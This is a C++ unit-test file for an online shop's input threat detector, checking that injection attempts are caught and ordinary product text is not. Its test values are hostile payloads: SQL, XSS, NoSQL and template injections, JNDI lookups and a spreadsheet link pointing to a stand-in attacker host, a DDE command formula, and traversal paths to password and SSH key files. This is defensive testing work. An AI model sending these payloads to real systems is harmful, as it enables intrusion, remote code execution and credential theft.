// Every threat type on values that must be found and on near misses that must not, through
// detect_threat() (the module API) and ThreatDetector::screen() (what the scans use).
#include "security/threat_detector.hpp"

#include <gtest/gtest.h>

#include <string>

#include "security/threat_libinjection.hpp"
#include "security/threat_rules.hpp"

namespace eyewear::security {
namespace {

using namespace std::string_literals;

std::optional<Detection> sqli(std::string_view v) { return detect_threat(ThreatType::kSqlInjection, v); }
std::optional<Detection> xss(std::string_view v) { return detect_threat(ThreatType::kXss, v); }

std::vector<ThreatType> types_of(std::string_view value, FieldContext context = {}) {
  std::vector<Detection> out;
  ThreatDetector().screen(value, context, out);
  std::vector<ThreatType> types;
  for (const auto& d : out) types.push_back(d.type);
  return types;
}

TEST(ThreatTypes, NamesRoundTrip) {
  for (std::size_t i = 0; i < kThreatTypeCount; ++i) {
    const auto t = static_cast<ThreatType>(i);
    EXPECT_EQ(threat_type_from(name_of(t)), t);
  }
  EXPECT_EQ(name_of(ThreatType::kSqlInjection), "sql_injection");
  EXPECT_EQ(name_of(ThreatType::kCsvFormula), "csv_formula");
  EXPECT_FALSE(threat_type_from("SQL_INJECTION"));
  EXPECT_EQ(severity_from("high"), Severity::kHigh);
  EXPECT_FALSE(severity_from("critical"));
}

TEST(SqlInjection, ClassicInjectionsAreHighWithAFingerprint) {
  for (const char* v : {"1' OR '1'='1", "admin'--", "1 union select username, password from users",
                        "'; DROP TABLE products; --", "1) AND SLEEP(5)#", "-1 UNION ALL SELECT NULL,NULL,version()"}) {
    const auto d = sqli(v);
    ASSERT_TRUE(d) << v;
    EXPECT_EQ(d->severity, Severity::kHigh) << v;
    EXPECT_EQ(d->detector, "libinjection-sqli");
    EXPECT_TRUE(d->evidence.starts_with("fingerprint ")) << d->evidence;
    EXPECT_GT(d->confidence, 0.6);
    EXPECT_LE(d->confidence, 0.99);
  }
}

TEST(SqlInjection, ConfidenceGrowsWithTheEvidence) {
  const auto weak = sqli("1 --");                                 // a bare comment probe
  const auto strong = sqli("1 union select 1,2,3 from users--");  // UNION SELECT
  ASSERT_TRUE(weak);
  ASSERT_TRUE(strong);
  EXPECT_LT(weak->confidence, strong->confidence);
}

TEST(SqlInjection, CatalogueTextThatTokenizesLikeSqlIsNotAFinding) {
  // libinjection alone flags each of these; the two measured exceptions clear them.
  for (const char* v : {"52-18-140 -- matte black", "100% UV400 -- polarised", "'Luna' 60□22-145 #7",
                        "\"Mercury\" 55□17-145 #2 bestseller", "Select from 12 colours where available"}) {
    const auto a = rules::analyse_sqli(v);
    EXPECT_TRUE(a.libinjection) << v << " (libinjection no longer flags it: the exception is moot)";
    EXPECT_FALSE(a.injection()) << v;
    EXPECT_FALSE(sqli(v)) << v;
  }
  for (const char* v : {"Select your colour", "#1 seller", "O'Neill's \"Heritage\" round", "Ray's 'Classic' 50% off",
                        "Frame width 140 mm; lens 52 mm", "Order by 5 pm for next-day delivery", "McDonald's"}) {
    EXPECT_FALSE(sqli(v)) << v;
  }
}

TEST(SqlInjection, TheExceptionsKeepRealInjections) {
  // A quote or parenthesis closed before the comment, SQL inside the comment, or SQL before it:
  // still injections.
  for (const char* v : {"admin') -- hello", "1') # abc", "1' or '1'='1' -- sure", "-FFE #8' union select 1,2,3 -- ",
                        "1 union select 1,2 -- matte black", "x' AND 1=1 #7"}) {
    EXPECT_TRUE(sqli(v)) << v;
  }
}

TEST(Xss, ScriptTagsHandlersAndUrls) {
  const auto tag = xss("<script>alert(1)</script>");
  ASSERT_TRUE(tag);
  EXPECT_EQ(tag->evidence, "script_tag");
  EXPECT_EQ(tag->severity, Severity::kHigh);
  const auto handler = xss("<img src=x onerror=alert(1)>");
  ASSERT_TRUE(handler);
  EXPECT_EQ(handler->evidence, "event_handler");
  const auto attr = xss("\" onmouseover=\"alert(1)");
  ASSERT_TRUE(attr);
  const auto url = xss("<a href=\"javascript:alert(1)\">x</a>");
  ASSERT_TRUE(url);
  EXPECT_EQ(url->evidence, "script_url");
}

TEST(Xss, HarmlessMarkupAndComparisonsAreNot) {
  for (const char* v : {"<b>bold</b> frames", "Anti-reflective <1% reflection", "Temple length > 140 mm", "size=52",
                        "colour = black", "a < b and c > d", "online only"}) {
    EXPECT_FALSE(xss(v)) << v;
  }
  EXPECT_FALSE(rules::may_be_xss("javascript alert one"));
}

TEST(NosqlInjection, OperatorsWrittenAsOperators) {
  const auto where = detect_threat(ThreatType::kNosqlInjection, "', $where: '1 == 1'");
  ASSERT_TRUE(where);
  EXPECT_EQ(where->severity, Severity::kHigh);
  EXPECT_EQ(where->evidence, "$where");
  const auto fn = detect_threat(ThreatType::kNosqlInjection, "{\"$function\": {\"body\": \"...\"}}");
  ASSERT_TRUE(fn);
  EXPECT_EQ(fn->severity, Severity::kHigh);
  for (const char* v : {"{ $ne: 1 }", "[$ne]=1", "{\"$gt\": \"\"}", "{$nin: [\"\"]}}"}) {
    const auto d = detect_threat(ThreatType::kNosqlInjection, v);
    ASSERT_TRUE(d) << v;
    EXPECT_EQ(d->severity, Severity::kMedium) << v;
  }
}

TEST(NosqlInjection, PricesAndDollarWordsAreNot) {
  for (const char* v : {"From $89", "$in stock", "save $where possible", "US$ne", "$$$ deal", "$gt"}) {
    EXPECT_FALSE(detect_threat(ThreatType::kNosqlInjection, v)) << v;
  }
}

TEST(ScriptInjection, TemplateAndExpressionLanguage) {
  for (const char* v : {"{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "#{7*7}",
                        "<%= system('id') %>", "${jndi:ldap://evil.example/a}", "${${::-j}ndi:rmi://x/y}"}) {
    const auto d = detect_threat(ThreatType::kScriptInjection, v);
    ASSERT_TRUE(d) << v;
    EXPECT_EQ(d->severity, Severity::kHigh) << v;
  }
  const auto placeholder = detect_threat(ThreatType::kScriptInjection, "Hello {{ name }}");
  ASSERT_TRUE(placeholder);
  EXPECT_EQ(placeholder->severity, Severity::kMedium);
  for (const char* v : {"{ matte }", "50% off <% unclosed", "{{ unclosed", "curly {braces}", "$ {x}"}) {
    EXPECT_FALSE(detect_threat(ThreatType::kScriptInjection, v)) << v;
  }
}

TEST(ScriptInjection, TemplateFieldsMayHoldPlaceholders) {
  EXPECT_EQ(types_of("Dear {{ first_name }}, {{ 1+1 }}", {FieldKind::kTemplate}), std::vector<ThreatType>{});
  EXPECT_EQ(types_of("Dear {{ 1+1 }}"), std::vector<ThreatType>{ThreatType::kScriptInjection});
  EXPECT_EQ(types_of("Dear ${jndi:ldap://evil.example/a}", {FieldKind::kTemplate}),
            std::vector<ThreatType>{ThreatType::kScriptInjection})
      << "lookups are refused even in templates";
}

TEST(ByteChecks, NullControlAndUtf8) {
  const auto nul = detect_threat(ThreatType::kNullByte, "photo.jpg\0.php"s);
  ASSERT_TRUE(nul);
  EXPECT_EQ(nul->severity, Severity::kHigh);
  EXPECT_FALSE(detect_threat(ThreatType::kNullByte, "photo.jpg"));

  const auto esc = detect_threat(ThreatType::kControlChars, "log\x1b[31mred");
  ASSERT_TRUE(esc);
  EXPECT_EQ(esc->severity, Severity::kMedium);
  EXPECT_EQ(esc->evidence, "U+001B");
  EXPECT_TRUE(detect_threat(ThreatType::kControlChars, "del\x7f"));
  EXPECT_TRUE(detect_threat(ThreatType::kControlChars, "c1\xc2\x85"));
  const auto bidi = detect_threat(ThreatType::kControlChars,
                                  "gpj.\xe2\x80\xae"
                                  "exe");
  ASSERT_TRUE(bidi);
  EXPECT_EQ(bidi->severity, Severity::kLow);
  EXPECT_FALSE(detect_threat(ThreatType::kControlChars, "tabs\tand\nnew lines\r\n are text; £ € □ é"));

  const auto overlong = detect_threat(ThreatType::kInvalidUtf8, "..\xc0\xaf..");
  ASSERT_TRUE(overlong);
  EXPECT_EQ(overlong->severity, Severity::kHigh);
  EXPECT_EQ(overlong->evidence, "overlong_encoding");
  const auto latin1 = detect_threat(ThreatType::kInvalidUtf8, "caf\xe9");
  ASSERT_TRUE(latin1);
  EXPECT_EQ(latin1->severity, Severity::kMedium);
  EXPECT_TRUE(detect_threat(ThreatType::kInvalidUtf8, "\xed\xa0\x80"));      // a surrogate
  EXPECT_TRUE(detect_threat(ThreatType::kInvalidUtf8, "\xf4\x90\x80\x80"));  // past U+10FFFF
  EXPECT_TRUE(detect_threat(ThreatType::kInvalidUtf8, "\xe2\x96"));          // truncated
  EXPECT_FALSE(detect_threat(ThreatType::kInvalidUtf8, "52□18-140 Sørensen ° 😎"));
}

TEST(OversizedField, OverTheLimitIsRefusedAndNothingElseIsLooked_at) {
  ThreatDetector detector(ThreatDetector::Options{64});
  EXPECT_FALSE(detector.detect(ThreatType::kOversizedField, std::string(64, 'a')));
  const auto d = detector.detect(ThreatType::kOversizedField, std::string(65, 'a'));
  ASSERT_TRUE(d);
  EXPECT_EQ(d->severity, Severity::kHigh);
  EXPECT_EQ(d->evidence, "65 bytes, limit 64");
  std::vector<Detection> out;
  detector.screen(std::string(60, ' ') + "' or 1=1 --", {}, out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].type, ThreatType::kOversizedField);
  out.clear();
  detector.screen(std::string(100, 'a'), FieldContext{FieldKind::kText, false, 200}, out);
  EXPECT_TRUE(out.empty()) << "a route's own limit wins";
}

TEST(PathTraversal, FileNames) {
  for (const char* v : {"../../etc/passwd", "..\\..\\windows\\win.ini", "images/../../secret", "....//....//x",
                        "%2e%2e%2fetc", "..%c0%afetc", "/etc/passwd", "C:\\boot.ini", "~/.ssh/id_rsa", ".. /x"}) {
    const auto d = detect_threat(ThreatType::kPathTraversal, v);
    ASSERT_TRUE(d) << v;
    EXPECT_EQ(d->severity, Severity::kHigh) << v;
  }
  const auto dir = detect_threat(ThreatType::kPathTraversal, "fronts/aviator-52.jpg");
  ASSERT_TRUE(dir);
  EXPECT_EQ(dir->severity, Severity::kMedium);
  for (const char* v : {"aviator-52.jpg", "O'Neill..final.png", "model.v2.tar.gz", "..jpg", "a.b"}) {
    EXPECT_FALSE(detect_threat(ThreatType::kPathTraversal, v)) << v;
  }
  EXPECT_EQ(types_of("../x.jpg"), std::vector<ThreatType>{}) << "only file-name fields are checked";
  EXPECT_EQ(types_of("../x.jpg", {FieldKind::kFileName}), std::vector<ThreatType>{ThreatType::kPathTraversal});
}

TEST(CsvFormula, Cells) {
  const auto dde = detect_threat(ThreatType::kCsvFormula, "=cmd|' /C calc'!A0");
  ASSERT_TRUE(dde);
  EXPECT_EQ(dde->severity, Severity::kHigh);
  const auto link = detect_threat(ThreatType::kCsvFormula, "=HYPERLINK(\"http://evil.example\",\"click\")");
  ASSERT_TRUE(link);
  EXPECT_EQ(link->severity, Severity::kHigh);
  const auto sum = detect_threat(ThreatType::kCsvFormula, "@SUM(A1:A9)");
  ASSERT_TRUE(sum);
  EXPECT_EQ(sum->severity, Severity::kMedium);
  const auto ref = detect_threat(ThreatType::kCsvFormula, "=A1");
  ASSERT_TRUE(ref);
  EXPECT_EQ(ref->severity, Severity::kLow);
  for (const char* v : {"-2.00", "+1.50", "-10%", "-", "- matte black", "acetate", "52-18-140", "1,299.00"}) {
    EXPECT_FALSE(detect_threat(ThreatType::kCsvFormula, v)) << v;
  }
  EXPECT_EQ(types_of("=A1"), std::vector<ThreatType>{}) << "only CSV cells are checked";
}

TEST(Screen, SecretFieldsGetOnlyTheSizeCheck) {
  EXPECT_EQ(types_of("' OR 1=1 -- <script>alert(1)</script>\0"s, {FieldKind::kSecret}), std::vector<ThreatType>{});
  EXPECT_EQ(types_of(std::string(20'000, 'p'), {FieldKind::kSecret}),
            std::vector<ThreatType>{ThreatType::kOversizedField});
}

TEST(Screen, SeveralThreatsInOneValueAreAllReported) {
  const auto types = types_of("1' or '1'='1<script>alert(1)</script>\x01"s);
  EXPECT_NE(std::find(types.begin(), types.end(), ThreatType::kSqlInjection), types.end());
  EXPECT_NE(std::find(types.begin(), types.end(), ThreatType::kXss), types.end());
  EXPECT_NE(std::find(types.begin(), types.end(), ThreatType::kControlChars), types.end());
}

TEST(Libinjection, IsTheLibraryWeMeasured) { EXPECT_FALSE(libinjection::version().empty()); }

}  // namespace
}  // namespace eyewear::security
